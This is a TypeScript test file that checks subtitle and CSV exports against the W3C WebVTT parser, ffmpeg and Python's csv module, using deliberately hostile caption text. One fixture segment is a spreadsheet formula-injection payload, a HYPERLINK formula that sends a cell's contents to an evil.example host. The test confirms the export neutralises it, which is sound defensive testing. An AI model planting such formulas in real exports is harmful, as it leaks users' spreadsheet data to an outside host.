// Export files read back by readers that are not ours: the W3C validator's WebVTT parser
// (webvtt-parser, a dev dependency), real ffmpeg for WebVTT and SubRip, and Python's csv module
// for CSV. Caption text comes from strangers, so the segments are hostile on purpose: markup-looking
// text, arrows, ampersands, spreadsheet formulas, a blank line inside a segment, times past an hour.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { WebVTTParser, type WebVTTCueNode } from 'webvtt-parser';
import { scanCues } from '#service/captions/cueScanner';
import { formatTranscript, type TranscriptDocument } from '#shared/format/formatters';
import type { Segment } from '#shared/transcript';

const dir = mkdtempSync(join(tmpdir(), 'td-export-readers-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HOSTILE: Segment[] = [
  { text: 'I <3 this', startMs: 0, endMs: 1500 },
  { text: 'if a < b then x --> y, and b > a', startMs: 1500, endMs: 3000 },
  { text: 'Tom & Jerry, AT&T and a literal &amp; and &lt;i&gt;', startMs: 3000, endMs: 4000 },
  { text: '=HYPERLINK("https://evil.example/?q="&A1,"click me")', startMs: 4000, endMs: 5000 },
  { text: '+1 555 0100 is the number', startMs: 5000, endMs: 6000 },
  { text: '-2 degrees outside', startMs: 6000, endMs: 7000 },
  { text: '@channel listen up', startMs: 7000, endMs: 8000 },
  { text: 'a first line\n\nand a second after a blank line', startMs: 8000, endMs: 9000 },
  { text: '42', startMs: 9000, endMs: 9500 },
  { text: '<i>not italics</i>, just words', startMs: 9500, endMs: 9800 },
  { text: 'naïve café — 日本語 🎉 "quoted", with commas', startMs: 9800, endMs: 10_000, speaker: 'Ann Smith' },
  { text: 'just before the hour', startMs: 3_599_001, endMs: 3_599_999 },
  { text: 'right past one hour', startMs: 3_600_000, endMs: 3_723_004 },
  { text: 'past a hundred hours', startMs: 360_000_250, endMs: 360_001_000, speaker: 'Q&A <host>' },
];
/**
 * SubRip has no escaping: a `<` that a later `>` closes is markup to every SRT reader (ffmpeg reads
 * "a < b then x --> y" as "a " + bold). Those two segments are WebVTT's to carry (README, "Export files").
 */
const MARKUP_LOOKALIKES = new Set([1, 9]);
/**
 * The same with a plain last speaker: ffmpeg's WebVTT decoder misreads a voice name holding an
 * escaped character (the W3C parser reads it), and in SubRip "<host>" in a name is markup too.
 */
const PLAIN_VOICES = HOSTILE.map((s) => (s.speaker === 'Q&A <host>' ? { ...s, speaker: 'Host' } : s));

/** The words a reader should see: the segment's text with its whitespace as one space. */
const words = (text: string) => text.replace(/\s+/g, ' ').trim();
const expectedOf = (segments: readonly Segment[]) => segments.map((s) => ({ startMs: s.startMs, endMs: s.endMs, text: words(s.text) }));
// One cue per segment (long lines, many per cue), so each cue's words can be compared with its segment's.
const ONE_CUE_EACH = { maxLineLength: 200, maxLines: 10 };

function exported(format: 'srt' | 'vtt' | 'csv', segments: readonly Segment[] = HOSTILE, options = ONE_CUE_EACH): { file: string; content: string } {
  const doc: TranscriptDocument = { title: 'Hostile', text: segments.map((s) => s.text).join('\n'), segments };
  const result = formatTranscript(doc, format, options);
  if (!result.ok) throw new Error(result.reason);
  const file = join(dir, `hostile-${segments.length}-${options.maxLineLength}.${format}`);
  writeFileSync(file, result.content);
  return { file, content: result.content };
}

interface ReadCue {
  startMs: number;
  endMs: number;
  text: string;
}

/** ffmpeg's reading of a subtitle file, as the SubRip it converts it to (its own canonical output). */
function ffmpegReads(file: string): ReadCue[] {
  const srt = execFileSync('ffmpeg', ['-v', 'error', '-i', file, '-f', 'srt', '-'], { encoding: 'utf8', timeout: 30_000 });
  const time = (t: string) => {
    const [h, m, s, ms] = t.split(/[:,]/).map(Number) as [number, number, number, number];
    return ((h * 60 + m) * 60 + s) * 1000 + ms;
  };
  return srt
    .split(/\n\n+/)
    .filter((block) => block.trim() !== '')
    .map((block) => {
      const [, timing = '', ...lines] = block.split('\n');
      const [start = '', end = ''] = timing.split(' --> ');
      return { startMs: time(start), endMs: time(end), text: words(lines.join(' ')) };
    });
}

// webvtt-parser's default entity table has the names without their semicolons, so `&lt;` would
// read as `<;`: it gets the standard's names in full.
const VTT_ENTITIES = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&lrm;': '\u200e', '&rlm;': '\u200f', '&nbsp;': '\u00a0' };
const textOf = (node: WebVTTCueNode): string => (node.type === 'text' ? (node.value ?? '') : (node.children ?? []).map(textOf).join(''));

/** The W3C parser's reading: each cue's rendered text and its voice, if any. */
function w3cReads(content: string): (ReadCue & { voice?: string })[] {
  const parsed = new WebVTTParser(VTT_ENTITIES).parse(content, 'metadata');
  expect(parsed.errors).toEqual([]);
  return parsed.cues.map((cue) => {
    const voice = cue.tree.children?.find((c) => c.name === 'v')?.value;
    return { startMs: Math.round(cue.startTime * 1000), endMs: Math.round(cue.endTime * 1000), text: words(textOf(cue.tree)), ...(voice === undefined ? {} : { voice }) };
  });
}

const byStart = (cues: ReadCue[]) => [...cues].sort((a, b) => a.startMs - b.startMs);
const decodeVoice = (name: string) => name.replace(/&(?:amp|lt|gt);/g, (entity) => VTT_ENTITIES[entity as keyof typeof VTT_ENTITIES]);

describe('WebVTT export', () => {
  it('reads back in the W3C parser with the same words, times and voices, and no error', () => {
    const cues = w3cReads(exported('vtt').content);
    expect(cues.map(({ startMs, endMs, text }) => ({ startMs, endMs, text }))).toEqual(expectedOf(HOSTILE));
    // webvtt-parser leaves a voice name's character references as written.
    expect(cues.flatMap((c) => (c.voice === undefined ? [] : [decodeVoice(c.voice)]))).toEqual(['Ann Smith', 'Q&A <host>']);
  });

  it('reads back in ffmpeg with the same words and times', () => {
    expect(byStart(ffmpegReads(exported('vtt', PLAIN_VOICES).file))).toEqual(expectedOf(PLAIN_VOICES));
  });

  it('keeps every character in order when segments are wrapped into many short cues', () => {
    const { file, content } = exported('vtt', PLAIN_VOICES, { maxLineLength: 12, maxLines: 1 });
    const cues = w3cReads(content);
    expect(cues.length).toBeGreaterThan(HOSTILE.length * 2);
    // Words longer than a line are cut, so compare without the spaces.
    const letters = (text: string) => text.replace(/\s+/g, '');
    expect(letters(cues.map((c) => c.text).join(''))).toBe(letters(HOSTILE.map((s) => s.text).join('')));
    const ffmpeg = byStart(ffmpegReads(file));
    expect(ffmpeg.map((c) => c.startMs)).toEqual(cues.map((c) => c.startMs));
    expect(ffmpeg.map((c) => c.text)).toEqual(cues.map((c) => c.text));
  });

  it('writes hours past one hour and past 99 hours, and no blank line inside a cue', () => {
    const { content } = exported('vtt');
    expect(content).toContain('\n00:59:59.001 --> 00:59:59.999\n');
    expect(content).toContain('\n01:00:00.000 --> 01:02:03.004\n');
    expect(content).toContain('\n100:00:00.250 --> 100:00:01.000\n');
    // Each cue is its number, its timing and one line of text: the blank line inside a segment is gone.
    expect(content.split('\n\n').slice(1, -1).map((block) => block.split('\n').length)).toEqual(HOSTILE.map(() => 3));
  });
});

describe('SubRip export', () => {
  const segments = PLAIN_VOICES.filter((_s, i) => !MARKUP_LOOKALIKES.has(i));
  // SubRip names a speaker in the words where the speaker changes (speakers.ts).
  const expected = expectedOf(segments.map((s) => (s.speaker === undefined ? s : { ...s, text: `${s.speaker}: ${s.text}` })));

  it('reads back in ffmpeg with the same words and times', () => {
    expect(byStart(ffmpegReads(exported('srt', segments).file))).toEqual(expected);
  });

  it('reads back in our own scanner the same way', () => {
    const cues = scanCues(exported('srt', segments).content, 'srt').cues;
    expect(cues.map((c) => ({ ...c, text: words(c.text) }))).toEqual(expected);
  });

  it('writes a cue number, a comma before the milliseconds and hours past 99', () => {
    const { content } = exported('srt', segments);
    expect(content.startsWith('1\n00:00:00,000 --> 00:00:01,500\nI <3 this\n\n2\n')).toBe(true);
    expect(content).toContain('\n100:00:00,250 --> 100:00:01,000\n');
  });
});

describe('CSV export', () => {
  it('reads back in Python’s csv module: same times, the same words, a formula only as text', () => {
    const { file } = exported('csv');
    const rows = JSON.parse(
      execFileSync('python3', ['-c', 'import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', file], { encoding: 'utf8', timeout: 30_000 }),
    ) as string[][];
    expect(rows[0]).toEqual(['start_ms', 'end_ms', 'start', 'end', 'speaker', 'text']);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    HOSTILE.forEach((segment, i) => {
      const row = rows[i + 1] as string[];
      expect(row.slice(0, 2).map(Number)).toEqual([segment.startMs, segment.endMs]);
      // The one change: a ' before what a spreadsheet would run; everything else byte for byte.
      const formula = /^[=+\-@\t\r]/.test(segment.text);
      expect(row[5]).toBe(formula ? `'${segment.text}` : segment.text);
      expect(row[4]).toBe(segment.speaker ?? '');
    });
    expect(rows.filter((row) => /^[=+\-@]/.test(row[5] ?? ''))).toEqual([]);
    expect(rows.at(-1)?.slice(2, 4)).toEqual(['100:00:00.250', '100:00:01.000']);
  });
});
